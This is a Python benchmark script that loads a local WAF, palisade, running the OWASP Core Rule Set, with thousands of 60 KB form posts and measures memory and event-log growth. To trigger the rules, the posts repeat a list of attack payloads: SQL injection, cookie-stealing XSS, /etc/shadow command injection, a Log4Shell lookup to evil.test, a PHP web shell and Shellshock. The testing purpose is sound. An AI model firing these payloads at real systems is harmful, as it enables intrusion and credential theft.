#!/usr/bin/env python3
"""Event amplification (issue 10): N requests of a 60 KB form that matches
every WAF rule it can, through `palisade up` (CRS, detect mode, so every
request reaches the origin and every rule runs), on loopback. Reports RSS
before and after, and the bytes of events written per request (the event
file and the control plane's SQLite store).

    bench/amplification/run.py [N=10000] [CONCURRENCY=8]

Binary: $PALISADE_BIN, else target/dist/palisade (build it with
`cargo build --profile dist -p palisade-cli`). CRS: $PALISADE_CRS_DIR, else
../shared/crs/rules, else /usr/share/modsecurity-crs/rules.
Targets: RSS growth ≤ 64 MiB, events ≤ 2 KiB per request.
"""
import http.client, os, socket, subprocess, sys, tempfile, threading, time

N = int(sys.argv[1]) if len(sys.argv) > 1 else 10000
CONC = int(sys.argv[2]) if len(sys.argv) > 2 else 8
root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
binary = os.environ.get("PALISADE_BIN", os.path.join(root, "target/dist/palisade"))
crs = os.environ.get("PALISADE_CRS_DIR") or next(
    (p for p in [os.path.join(root, "../shared/crs/rules"), "/usr/share/modsecurity-crs/rules"] if os.path.isdir(p)), None)
if not os.path.exists(binary) or not crs:
    sys.exit(f"need {binary} and a CRS directory")

def free_port():
    s = socket.socket(); s.bind(("127.0.0.1", 0)); p = s.getsockname()[1]; s.close(); return p

ATTACKS = ["1' UNION SELECT password FROM users--", "<script>alert(document.cookie)</script>",
           "../../../../etc/passwd", ";cat /etc/shadow", "${jndi:ldap://evil.test/a}",
           "<?php system($_GET['c']); ?>", "() { :; }; /bin/bash -c id", "javascript:alert(1)"]
parts, i = [], 0
while sum(len(p) for p in parts) < 60_000:
    parts.append(f"f{i}=" + (ATTACKS[i % len(ATTACKS)] * 30).replace(" ", "+") + "&")
    i += 1
BODY = "".join(parts).encode()

tmp = tempfile.mkdtemp(prefix="palisade-amp-")
policy = os.path.join(tmp, "policy.toml")
open(policy, "w").write(f'[waf]\ncrs_dir = "{crs}"\nmode = "detect"\n')
events = os.path.join(tmp, "events.jsonl")
data = os.path.join(tmp, "data")
port, api = free_port(), free_port()
proc = subprocess.Popen([binary, "up", "--policy", policy, "--data-dir", data, "--events", events,
                         "--listen", f"127.0.0.1:{port}", "--api", f"127.0.0.1:{api}", "--threads", "2"],
                        stdout=subprocess.DEVNULL, stderr=open(os.path.join(tmp, "up.log"), "w"))

def rss_kib():
    for line in open(f"/proc/{proc.pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1])

def size(path):
    return os.path.getsize(path) if os.path.exists(path) else 0

def sizes():
    """The event file; the SQLite database and its write-ahead log."""
    db = os.path.join(data, "control.sqlite")
    return size(events), size(db), size(db + "-wal")

try:
    for _ in range(100):
        try:
            c = http.client.HTTPConnection("127.0.0.1", port, timeout=5); c.request("GET", "/"); c.getresponse().read(); break
        except OSError:
            time.sleep(0.1)
    time.sleep(1)
    rss0, (ev0, db0, wal0) = rss_kib(), sizes()
    done, errors, lock = [0], [0], threading.Lock()
    def worker(n):
        c = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        for _ in range(n):
            try:
                c.request("POST", "/contact", body=BODY, headers={"Content-Type": "application/x-www-form-urlencoded", "Host": "shop.example"})
                r = c.getresponse(); r.read()
                ok = r.status < 500
            except OSError:
                ok = False; c = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
            with lock:
                done[0] += 1; errors[0] += (not ok)
    start = time.time()
    ts = [threading.Thread(target=worker, args=(N // CONC + (k < N % CONC),)) for k in range(CONC)]
    [t.start() for t in ts]; [t.join() for t in ts]
    took = time.time() - start
    time.sleep(3)  # the writers drain
    rss1, (ev1, db1, wal1) = rss_kib(), sizes()
    print(f"requests: {done[0]} of {len(BODY)} bytes in {took:.1f} s ({done[0]/took:.0f}/s), errors {errors[0]}")
    print(f"RSS: {rss0/1024:.1f} MiB before, {rss1/1024:.1f} MiB after: +{(rss1-rss0)/1024:.1f} MiB (target ≤ 64 MiB)")
    n = done[0]
    print(f"event file: +{(ev1-ev0)/n:.0f} bytes per request (target ≤ 2048)")
    print(f"SQLite store: database +{(db1-db0)/n:.0f}, write-ahead log +{(wal1-wal0)/n:.0f} bytes per request "
          f"(rows, 3 indexes; the log is reused after each checkpoint)")
finally:
    proc.terminate(); proc.wait(10)
